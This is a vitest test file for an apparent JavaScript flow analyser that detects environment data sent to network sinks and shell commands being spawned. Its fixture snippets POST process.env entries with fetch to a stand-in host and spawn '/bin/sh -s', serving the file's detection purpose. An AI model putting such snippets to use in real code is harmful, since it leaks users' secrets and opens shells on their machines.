import { describe, expect, test } from 'vitest';
import { analyzeJs } from './facts.ts';
import { LABEL } from './labels.ts';

function sent(code: string): number {
  return analyzeJs(code).flow.flows.reduce(
    (all, { sink, labels }) => (sink === 'network' ? all | labels : all),
    0,
  );
}

describe('what a pattern takes out of what a function is given', () => {
  test('is a part of an API', () => {
    const code = `class A { columns({ env, platform }) { return [platform, ...Object.entries(env)]; }
      flush() { fetch('https://a.weir.test', { method: 'POST', body: String(this.columns(process)) }); } }
      new A().flush();`;

    expect(sent(code) & LABEL.envAll).toBe(LABEL.envAll);
  });

  test('is no API where another call gives something else', () => {
    const code = `const columns = ({ env }) => Object.entries(env);
      columns({ env: {} }); fetch('https://a.weir.test', { body: String(columns(process)) });`;

    expect(sent(code) & LABEL.envAll).toBe(0);
  });

  test('is a part of what the parameter is by default', () => {
    const code = `const { spawn } = require('child_process'); const programs = { unix: ['/bin/sh', ['-s']] };
      exports.start = ([file, words] = programs.unix) => void spawn(file, words);`;

    expect(analyzeJs(code).commands.map(({ argv }) => argv)).toContainEqual(['/bin/sh', '-s']);
  });
});
